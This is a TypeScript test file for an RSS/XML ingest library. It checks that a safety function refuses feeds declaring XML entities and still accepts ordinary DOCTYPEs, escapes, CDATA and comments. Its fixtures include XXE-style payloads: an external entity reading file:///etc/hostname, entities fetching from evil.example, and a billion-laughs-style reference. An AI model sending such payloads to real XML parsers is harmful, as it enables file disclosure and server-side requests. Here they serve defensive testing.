import { describe, expect, it } from "vitest";
import { IngestError } from "../../src/errors.js";
import { unprefixFeedElements } from "../../src/ingest/feed-prefixes.js";
import { DECLARES_ENTITIES, refuseUnsafeXml } from "../../src/ingest/xml-safety.js";

function refusal(body: string): string | null {
  try {
    refuseUnsafeXml(body);
    return null;
  } catch (error) {
    expect(error).toBeInstanceOf(IngestError);
    expect((error as IngestError).code).toBe("parse");
    return (error as IngestError).message;
  }
}

const RSS = `<rss version="2.0"><channel><title>T</title></channel></rss>`;

describe("refuseUnsafeXml", () => {
  it.each([
    ["an internal general entity", `<!DOCTYPE rss [<!ENTITY a "x">]>${RSS}`],
    ["an external SYSTEM entity", `<!DOCTYPE rss [<!ENTITY s SYSTEM "file:///etc/hostname">]>${RSS}`],
    ["a PUBLIC entity", `<!DOCTYPE rss [<!ENTITY p PUBLIC "-//X//EN" "http://evil.example/x">]>${RSS}`],
    ["a parameter entity", `<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>${RSS}`],
    ["a declaration after a comment in the subset", `<!DOCTYPE rss [<!-- x --><!entity a "x">]>${RSS}`],
  ])("refuses %s", (_name, body) => {
    expect(refusal(body)).toBe(DECLARES_ENTITIES);
  });

  it("refuses a reference to an entity no one defines, naming it", () => {
    expect(refusal(`<!DOCTYPE rss SYSTEM "http://evil.example/lol.dtd"><rss><title>&lol9;</title></rss>`)).toBe(
      "feed refers to an XML entity it does not define (&lol9;); refused",
    );
  });

  it.each([
    [
      "the Netscape RSS 0.91 DOCTYPE",
      `<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">${RSS}`,
    ],
    [
      "XML's own and HTML named references",
      `<rss><title>&amp; &lt; &gt; &quot; &apos; &eacute; &nbsp; &#233; &#xE9;</title></rss>`,
    ],
    ["entity-looking text inside CDATA", `<rss><title><![CDATA[<!ENTITY a "x"> &lol9;]]></title></rss>`],
    ["entity-looking text inside a comment", `<rss><!-- <!ENTITY a "x"> &lol9; --><title>T</title></rss>`],
    ["escaped text that mentions a declaration", `<rss><title>&lt;!ENTITY a "x"&gt; &amp;lol9;</title></rss>`],
  ])("accepts %s", (_name, body) => {
    expect(refusal(body)).toBeNull();
  });
});

describe("unprefixFeedElements", () => {
  it("writes RSS 0.90 elements without their prefix, leaving CDATA and other namespaces alone", () => {
    const body = `<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:n="http://my.netscape.com/rdf/simple/0.9/"><n:item><n:title><![CDATA[<n:kept>]]></n:title></n:item></rdf:RDF>`;
    expect(unprefixFeedElements(body)).toBe(
      `<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://my.netscape.com/rdf/simple/0.9/"><item><title><![CDATA[<n:kept>]]></title></item></rdf:RDF>`,
    );
  });

  it("leaves a document without those namespaces as it is", () => {
    expect(unprefixFeedElements(RSS)).toBe(RSS);
  });
});
